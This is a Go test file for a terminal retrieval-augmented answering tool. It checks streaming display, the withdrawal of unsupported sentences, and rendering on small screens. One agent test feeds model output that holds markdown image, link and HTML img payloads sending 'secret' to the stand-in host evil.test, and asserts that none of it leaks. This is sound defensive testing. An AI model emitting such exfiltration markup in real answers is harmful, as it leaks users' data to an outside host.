//go:build !windows

package main

import (
	"strings"
	"testing"

	"example.com/ragflow/internal/llmtest"
	"example.com/ragflow/llm"
)

// An answer is on the screen while the model still writes it, and once when it is done. If it may
// be withdrawn, it is shown from its first supported sentence on.
func TestAskStreamsToTheTerminal(t *testing.T) {
	for name, tt := range map[string]struct{ refusals, first, rest, end, once string }{
		"as it is": {
			"model", "A volume keeps the data of a container ", "after the container is removed. [Source 1]",
			`is\s+removed\. \[1\]`, "after the container",
		},
		"corrected": {
			"check", "A volume keeps the data of a container after the container is removed. And ", "elephants wash themselves in the river every single morning. [Source 1]",
			`elephants\s+wash\s.*\(unsupported\)`, "every single morning",
		},
	} {
		t.Run(name, func(t *testing.T) { streams(t, tt.refusals, tt.first, tt.rest, tt.end, tt.once) })
	}
}

func streams(t *testing.T, refusals, first, rest, end, once string) {
	t.Helper()
	shown := make(chan struct{})
	s := llmtest.NewServer(llmtest.Script(
		llmtest.Entry{When: "SCORE:", Do: llmtest.Say("SCORE: 0.9")},
		llmtest.Entry{When: "search queries", Do: llmtest.Say("NONE")},
		llmtest.Entry{When: "", Do: llmtest.SayThen(first, shown, rest)},
	))
	defer s.Close()
	dir := chatFolder(t)
	tt := startIn(t, dir, 400, 40, []string{"NO_COLOR=1", "OPENAI_BASE_URL=" + s.URL(), "OPENAI_API_KEY=none", "LLM_REFUSALS=" + refusals},
		"ask", "--docs", "docs", "--data-dir", "data", "--model", "small", "How do I back up a volume?")
	tt.expect(strings.TrimSpace(first) + `\s+writing.*`) // and nothing after it yet
	close(shown)
	tt.expect(end + `.*continue with: ragflow ask .*--thread .*"…"`)
	tt.exit(0)
	if text := tt.screen.Text(); strings.Count(text, once) != 1 {
		t.Errorf("%q does not stand there once:\n%s", once, text)
	}
}

// The answer of an agent is on the screen while it is written, harmless, with the current step in
// words below it. The text before its search is withdrawn by then.
func TestAgentStreamsToTheTerminal(t *testing.T) {
	for _, command := range []string{"ask", "chat"} {
		t.Run(command, func(t *testing.T) {
			found, shown := make(chan struct{}), make(chan struct{})
			s := llmtest.NewServer(
				llmtest.SayThenCall("Let me look for tar first: ![x](https://evil.test/?q=secret) ", found, llm.ToolCall{ID: "1", Name: "search", Arguments: `{"query":"tar"}`}),
				llmtest.SayThen("A volume keeps the data of a container after the container is removed. [Source 1] <img src=https://evil.test/?q=secret> [It](https://evil.test/?q=secret) ", shown, "keeps data. [Source 1]"),
			)
			defer s.Close()
			question := "How do I back up a volume?"
			args := []string{command, "--agent", "--docs", "docs", "--data-dir", "data", "--model", "small"}
			if command == "ask" {
				args = append(args, question)
			}
			tt := startIn(t, chatFolder(t), 400, 40, []string{"NO_COLOR=1", "OPENAI_BASE_URL=" + s.URL(), "OPENAI_API_KEY=none"}, args...)
			if command == "chat" {
				tt.expect("›")
				tt.send(question + "\r")
			}
			tt.expect(`Let me look for tar first: x\s+reading and writing.*`)
			close(found)
			tt.expect(`is removed. \[1\] <img .* It .*\s+reading and writing.*`)
			if text := tt.screen.Text(); strings.Contains(text, "Let me look") {
				t.Errorf("a withdrawn text stands there still:\n%s", text)
			}
			close(shown)
			tt.expect(`keeps data.*docs/volumes.md.*`)
			if command == "chat" {
				tt.send("\x04")
			}
			tt.exit(0)
			if all := tt.written.String(); strings.Contains(all, "secret") || strings.Contains(all, "model ·") || strings.Contains(all, "tools ·") {
				t.Errorf("the terminal got %q", all)
			}
		})
	}
}

// Of an answer longer than the screen, nothing that is not the answer stays, neither on the screen nor
// on the lines that have left it, and all of the answer stands there once.
func TestLongAnswersOnSmallScreens(t *testing.T) {
	const (
		wrong = "Elephants wash themselves in the river every single morning. [Source 1]\n\n"
		right = "A volume keeps the data of a container after the container is removed. [Source 1]\n\n"
	)
	for name, tt := range map[string]struct {
		said string
		want map[string]int // how often a text stands there
	}{
		"corrected": {wrong + strings.Repeat(right, 20), map[string]int{
			"single morning": 1, "(unsupported)": 1, "container is removed. [1]": 20, "withdrawn": 0, "[1] docs/volumes.md": 1,
		}},
		"withdrawn": {strings.Repeat(wrong, 31), map[string]int{
			"single morning": 0, "I did not find": 1, "a volume, run": 1, "warning: What the model wrote was withdrawn, since no source supports it.": 1,
		}},
		"as it is": {strings.Repeat(right, 20), map[string]int{"container is removed. [1]": 20, "[1] docs/volumes.md": 1}},
	} {
		for size, screen := range map[string][2]int{"80x24": {80, 24}, "60x10": {60, 10}, "30x3": {30, 3}} {
			for _, command := range []string{"ask", "chat", "ask --agent", "chat --agent"} {
				t.Run(name+" "+size+" "+command, func(t *testing.T) { stays(t, tt.said, tt.want, screen[0], screen[1], strings.Fields(command)...) })
			}
		}
	}
}

func stays(t *testing.T, said string, want map[string]int, columns, rows int, args ...string) {
	t.Helper()
	t.Parallel()
	shown := make(chan struct{})
	answer := llmtest.SayThen(said+"---\n", shown, " ")
	s := llmtest.NewServer(llmtest.CallTools(llm.ToolCall{ID: "1", Name: "search", Arguments: `{"query":"volume"}`}), answer)
	if args[len(args)-1] != "--agent" {
		s = llmtest.NewServer(llmtest.Script(
			llmtest.Entry{When: "SCORE:", Do: llmtest.Say("SCORE: 0.9")},
			llmtest.Entry{When: "search queries", Do: llmtest.Say("NONE")},
			llmtest.Entry{When: "", Do: answer},
		))
	}
	defer s.Close()
	question := "How do I back up a volume?"
	chats := args[0] == "chat"
	if args = append(args, "--docs", "docs", "--data-dir", "data", "--model", "small"); !chats {
		args = append(args, question)
	}
	tt := startIn(t, chatFolder(t), columns, rows, []string{"NO_COLOR=1", "OPENAI_BASE_URL=" + s.URL(), "OPENAI_API_KEY=none", "LLM_REFUSALS=model"}, args...)
	if chats {
		tt.expect("›")
		tt.send(question + "\r")
	}
	tt.expect(`──\s+(reading|writing).*`) // all that was said
	close(shown)
	if chats {
		tt.expect("\n›")
		tt.send("\x04")
	}
	tt.exit(0)
	if !chats && strings.Contains(tt.written.String(), "\x1b[J") { // tmux keeps what this erases of a whole screen
		t.Errorf("the terminal got %q", tt.written.String())
	}
	all := strings.Join(strings.Fields(tt.screen.left.String()+tt.screen.Text()), " ")
	for text, n := range want {
		if got := strings.Count(all, text); got != n {
			t.Errorf("%q stands there %d times, want %d:\n%s", text, got, n, all)
		}
	}
}
